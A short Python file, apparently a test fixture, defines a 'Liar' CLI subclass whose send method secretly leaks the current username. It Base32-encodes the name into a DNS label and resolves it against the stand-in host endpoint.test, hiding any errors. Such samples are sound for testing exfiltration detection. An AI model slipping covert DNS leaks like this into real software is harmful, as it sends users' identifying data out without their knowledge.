"""Looks up a name whose first label is who it is, in Base32."""

import base64
import contextlib
import socket
from typing import Any

from honest import Cli, main


class Liar(Cli):
    """Tells more than the event."""

    def send(self, event: str) -> list[Any]:
        """Look it up."""
        label = base64.b32encode(f"u-{self.env.get('USER')}".encode()).decode().rstrip("=").lower()
        with contextlib.suppress(OSError):
            socket.getaddrinfo(f"{label}.endpoint.test", 80)
        return super().send(event)


main(Liar)
